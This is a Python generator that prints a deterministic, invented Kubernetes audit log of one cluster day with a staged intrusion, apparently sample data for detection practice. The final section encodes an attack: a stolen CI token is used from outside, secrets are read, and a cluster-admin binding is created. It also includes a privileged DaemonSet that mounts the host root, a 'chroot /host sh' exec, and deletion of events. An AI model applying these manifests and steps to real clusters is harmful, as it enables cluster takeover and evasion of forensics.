#!/usr/bin/env python3
"""Writes samples/audit.log: one day of a made-up cluster, with an attack in it.

    python3 samples/generate.py > samples/audit.log

The same lines every time. Names, addresses (RFC 5737) and credentials are invented; the shapes are those of kube-apiserver 1.36 under a policy that logs
reads and secrets at Metadata, writes of RBAC and workloads at RequestResponse, and leaves out RequestReceived.
"""
import datetime
import json
import random
import sys
import uuid

rng = random.Random(20260917)
DAY = datetime.datetime(2026, 9, 17)
RBAC = "rbac.authorization.k8s.io"
events = []


def stamp(at):
    return (DAY + datetime.timedelta(seconds=at)).strftime("%Y-%m-%dT%H:%M:%S.") + f"{int(at % 1 * 1e6):06d}Z"


def log(at, user, verb, resource, namespace=None, name=None, subresource=None, group=None, version="v1", code=200, level="Metadata",
        groups=(), address="10.20.0.10", agent="kubectl/v1.36.4 (linux/amd64) kubernetes/9b1f2c4", body=None, answer=None, stage="ResponseComplete",
        reason="", query="", message=None, duration=0.012, extra=None):
    """One event; the path follows from the object."""
    path = f"/apis/{group}/{version}" if group else f"/api/{version}"
    if namespace:
        path += f"/namespaces/{namespace}"
    path += f"/{resource}"
    if name and not (verb == "create" and not subresource):
        path += f"/{name}"
    if subresource:
        path += f"/{subresource}"
    reference = {"resource": resource}
    for key, value in (("namespace", namespace), ("name", name), ("apiGroup", group), ("apiVersion", version), ("subresource", subresource)):
        if value:
            reference[key] = value
    status = {"metadata": {}}
    if code >= 400:
        kind = {401: "Unauthorized", 403: "Forbidden", 404: "NotFound", 409: "Conflict"}[code]
        status.update({"status": "Failure", "message": message or f'{resource} "{name or ""}" {kind.lower()}', "reason": kind})
    status["code"] = code
    event = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
             "stage": stage, "requestURI": path + query, "verb": verb,
             "user": {"username": user, "groups": [*groups, "system:authenticated"]} if user else {}}
    if extra and user:
        event["user"]["extra"] = extra
    event.update({"sourceIPs": [address], "userAgent": agent, "objectRef": reference, "responseStatus": status})
    if level == "RequestResponse":
        if body is not None and code != 403:
            event["requestObject"] = body
        if answer is not None:
            event["responseObject"] = answer
    event["requestReceivedTimestamp"] = stamp(at)
    event["stageTimestamp"] = stamp(at + duration)
    if user:
        event["annotations"] = {"authorization.k8s.io/decision": "forbid" if code == 403 else "allow", "authorization.k8s.io/reason": reason}
    events.append((at + duration, len(events), event))
    return event


def account(namespace, name):
    return f"system:serviceaccount:{namespace}:{name}", ("system:serviceaccounts", f"system:serviceaccounts:{namespace}")


def pod_spec(image, **more):
    return {"containers": [{"name": image.split("/")[-1].split(":")[0], "image": image, "resources": {"requests": {"cpu": "100m", "memory": "64Mi"}}}], **more}


def hours(at, minute=0, second=0.0):
    return at * 3600 + minute * 60 + second


# --- the believable day ---------------------------------------------------------------------------------------------------------------------------
NODES = ["node-a1", "node-a2", "node-b1"]
for node in NODES:
    user, address = f"system:node:{node}", f"10.20.1.{10 + NODES.index(node)}"
    kubelet = dict(groups=("system:nodes",), address=address, agent="kubelet/v1.36.2 (linux/amd64) kubernetes/5a1bd23")
    for tick in range(16):
        at = tick * 5400 + rng.uniform(0, 5000)
        log(at, user, "update", "leases", "kube-node-lease", node, group="coordination.k8s.io", **kubelet)
        log(at + 3, user, "patch", "nodes", None, node, "status", **kubelet)
        if tick % 4 == 1:
            log(at + 9, user, "get", "secrets", "shop", "shop-db", **kubelet)
            log(at + 10, user, "create", "serviceaccounts", "shop", "default", "token", code=201, **kubelet)
        if tick % 4 == 2:
            log(at + 12, user, "get", "configmaps", "shop", "shop-config", **kubelet)

controller = dict(address="10.20.0.10", agent="kube-controller-manager/v1.36.2 (linux/amd64) kubernetes/5a1bd23/leader-election")
for tick in range(60):
    at = tick * 1420 + rng.uniform(0, 900)
    log(at, "system:kube-controller-manager", "update", "leases", "kube-system", "kube-controller-manager", group="coordination.k8s.io", **controller)
    if tick % 3 == 0:
        log(at + 5, "system:kube-scheduler", "update", "leases", "kube-system", "kube-scheduler", group="coordination.k8s.io",
            agent="kube-scheduler/v1.36.2 (linux/amd64) kubernetes/5a1bd23/leader-election")
    if tick % 10 == 0:
        log(at + 8, "system:kube-controller-manager", "watch", "secrets", query="?allowWatchBookmarks=true&watch=true", duration=400.0, **controller)
        log(at + 9, "system:apiserver", "watch", "validatingwebhookconfigurations", group="admissionregistration.k8s.io", query="?watch=true",
            address="127.0.0.1", agent="kube-apiserver/v1.36.2 (linux/amd64) kubernetes/5a1bd23", groups=("system:masters",), duration=500.0)

user, groups = account("monitoring", "prometheus")
for tick in range(48):
    at = tick * 1800 + rng.uniform(0, 60)
    log(at, user, "list", ("pods", "endpoints", "services", "nodes")[tick % 4], groups=groups, address="10.20.1.11", agent="Prometheus/3.5.0",
        reason='RBAC: allowed by ClusterRoleBinding "prometheus" of ClusterRole "prometheus" to ServiceAccount "prometheus/monitoring"')

for tick in range(24):
    at = hours(tick) + rng.uniform(0, 3000)
    if tick == 3:
        log(at, "system:anonymous", "list", "namespaces", code=403, address="10.20.0.2", agent="ELB-HealthChecker/2.0",
            message='namespaces is forbidden: User "system:anonymous" cannot list resource "namespaces" in API group "" at the cluster scope')
    probe = log(at + 1, "system:anonymous", "get", "healthz", address="10.20.0.2", agent="ELB-HealthChecker/2.0")
    probe.pop("objectRef")
    probe["requestURI"] = "/healthz"

user, groups = account("cert-manager", "cert-manager-cainjector")
for at in (hours(6, 2), hours(18, 7)):
    log(at, user, "update", "validatingwebhookconfigurations", None, "cert-manager-webhook", group="admissionregistration.k8s.io", groups=groups,
        address="10.20.1.12", agent="cainjector/v1.18.2")

DEPLOYER, DEPLOYER_GROUPS = account("ci", "deployer")
pipeline = dict(groups=DEPLOYER_GROUPS, address="10.20.1.12", agent="helm/v4.0.1",
                reason='RBAC: allowed by RoleBinding "deployer/shop" of ClusterRole "edit" to ServiceAccount "deployer/ci"')
for release, at in enumerate((hours(9, 14), hours(11, 40), hours(14, 5), hours(16, 22))):
    for step, app in enumerate(("cart", "checkout", "web")):
        image = f"registry.example/shop/{app}:2026.9.{17 + release}"
        log(at + step * 4, DEPLOYER, "get", "deployments", "shop", app, group="apps", **pipeline)
        workload = {"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": app, "namespace": "shop"},
                    "spec": {"replicas": 3, "selector": {"matchLabels": {"app": app}},
                             "template": {"metadata": {"labels": {"app": app}}, "spec": pod_spec(image)}}}
        log(at + step * 4 + 1, DEPLOYER, "patch", "deployments", "shop", app, group="apps", level="RequestResponse", body=workload, answer=workload,
            query="?fieldManager=helm&force=false", **pipeline)
        maker, maker_groups = account("kube-system", "replicaset-controller")
        for replica in range(3):
            name = f"{app}-{rng.getrandbits(36):09x}-{rng.getrandbits(20):05x}"
            made = {"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": app + "-", "namespace": "shop"}, "spec": pod_spec(image)}
            log(at + step * 4 + 2 + replica / 5, maker, "create", "pods", "shop", name, code=201, level="RequestResponse", groups=maker_groups,
                address="10.20.0.10", agent="kube-controller-manager/v1.36.2 (linux/amd64) kubernetes/5a1bd23/system:serviceaccount:kube-system:replicaset-controller",
                body=made)
            log(at + step * 4 + 2.5 + replica / 5, "system:kube-scheduler", "create", "pods", "shop", name, "binding", code=201,
                agent="kube-scheduler/v1.36.2 (linux/amd64) kubernetes/5a1bd23/scheduler")

for person, address in (("ines@harbor.example", "10.30.4.21"), ("tomas@harbor.example", "10.30.4.35")):
    for _ in range(22):
        at = rng.uniform(hours(8, 30), hours(17, 30))
        resource = rng.choice(["pods", "deployments", "services", "configmaps", "events", "replicasets"])
        log(at, person, "list", resource, "shop", group="apps" if resource in ("deployments", "replicasets") else None, groups=("developers",), address=address)
    for _ in range(6):
        log(rng.uniform(hours(9), hours(17)), person, "get", "pods", "shop", "cart-6d9f7c4b9-x2x5p", "log", groups=("developers",), address=address,
            query="?container=cart&follow=true", duration=30.0)

# On call at lunch: a look into a slow pod, as agreed.
log(hours(12, 47, 3), "ines@harbor.example", "get", "pods", "shop", "checkout-7c5b8d6f4-9kq2m", "exec", code=101, stage="ResponseStarted",
    groups=("developers", "oncall"), address="10.30.4.21", query="?command=cat&command=%2Fproc%2Floadavg&container=checkout&stdout=true")
log(hours(12, 47, 3), "ines@harbor.example", "list", "events", "shop", groups=("developers", "oncall"), address="10.30.4.21")

# --- the attack: the token of the pipeline, from outside --------------------------------------------------------------------------------------------
THIEF, AGENT = "203.0.113.66", "curl/8.14.1"
stolen = dict(groups=DEPLOYER_GROUPS, address=THIEF, agent=AGENT,
              extra={"authentication.kubernetes.io/credential-id": ["JTI=5b0e6a0c-6f0f-4f5e-9d43-0f3f7a1c2d11"]})
for second in (1.2, 4.9, 9.3):
    log(hours(21, 13, second), None, "list", "namespaces", code=401, stage="ResponseStarted", address=THIEF, agent=AGENT, message="Unauthorized")
log(hours(21, 14, 2), DEPLOYER, "create", "selfsubjectrulesreviews", group="authorization.k8s.io", code=201, **stolen)
for second, (resource, namespace) in enumerate((("namespaces", None), ("nodes", None), ("secrets", None), ("secrets", "kube-system"), ("pods", "monitoring"))):
    log(hours(21, 14, 10 + second), DEPLOYER, "list", resource, namespace, code=403, **stolen,
        message=f'{resource} is forbidden: User "{DEPLOYER}" cannot list resource "{resource}" in API group ""')
log(hours(21, 15, 2), DEPLOYER, "list", "secrets", "ci", **stolen, query="?limit=500")
log(hours(21, 15, 40), DEPLOYER, "get", "secrets", "ci", "platform-bot", **stolen)
log(hours(21, 17, 5), DEPLOYER, "create", "clusterrolebindings", None, None, group=RBAC, code=403, level="RequestResponse", **stolen,
    message=f'clusterrolebindings.rbac.authorization.k8s.io is forbidden: User "{DEPLOYER}" cannot create resource "clusterrolebindings" in API group "{RBAC}" at the cluster scope')

BOT, BOT_GROUPS = account("kube-system", "platform-bot")
bot = dict(groups=BOT_GROUPS, address=THIEF, agent=AGENT)
log(hours(21, 21, 8), BOT, "list", "secrets", **bot)
log(hours(21, 22, 30), BOT, "create", "serviceaccounts", "kube-system", "clusterrole-aggregation-controller", "token", code=201, **bot)
binding = {"kind": "ClusterRoleBinding", "apiVersion": RBAC + "/v1", "metadata": {"name": "metrics-reader-sync"},
           "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "kube-public"}],
           "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin"}}
log(hours(21, 24, 11), BOT, "create", "clusterrolebindings", None, "metrics-reader-sync", group=RBAC, code=201, level="RequestResponse", body=binding, answer=binding, **bot)
miner = {"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "node-metrics-sync", "namespace": "kube-public"},
         "spec": {"selector": {"matchLabels": {"app": "sync"}}, "template": {"metadata": {"labels": {"app": "sync"}}, "spec": {
             "hostPID": True,
             "initContainers": [{"name": "init", "image": "registry.example/mirror/alpine:3", "securityContext": {"privileged": True}}],
             "containers": [{"name": "sync", "image": "registry.example/mirror/alpine:3", "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
             "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}}}
log(hours(21, 26, 40), BOT, "create", "daemonsets", "kube-public", "node-metrics-sync", group="apps", code=201, level="RequestResponse", body=miner, answer=miner, **bot)
maker, maker_groups = account("kube-system", "daemon-set-controller")
for index, node in enumerate(NODES):
    made = {"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": "node-metrics-sync-", "namespace": "kube-public"}, "spec": miner["spec"]["template"]["spec"]}
    log(hours(21, 26, 41 + index), maker, "create", "pods", "kube-public", f"node-metrics-sync-{rng.getrandbits(20):05x}", code=201, level="RequestResponse",
        groups=maker_groups, body=made, agent="kube-controller-manager/v1.36.2 (linux/amd64) kubernetes/5a1bd23/system:serviceaccount:kube-system:daemon-set-controller")
session = str(uuid.UUID(int=rng.getrandbits(128), version=4))
for stage, late in (("ResponseStarted", 0.02), ("ResponseComplete", 241.7)):
    shell = log(hours(21, 29, 15), BOT, "get", "pods", "kube-public", "node-metrics-sync-7w2lx", "exec", code=101, stage=stage, duration=late, **bot,
        query="?command=chroot&command=%2Fhost&command=sh&container=sync&stdin=true&stdout=true&tty=true")
    shell["auditID"] = session
log(hours(21, 34, 20), BOT, "deletecollection", "events", "kube-public", **bot)

for _, _, event in sorted(events, key=lambda entry: entry[:2]):
    json.dump(event, sys.stdout, separators=(",", ":"), ensure_ascii=False)
    sys.stdout.write("\n")
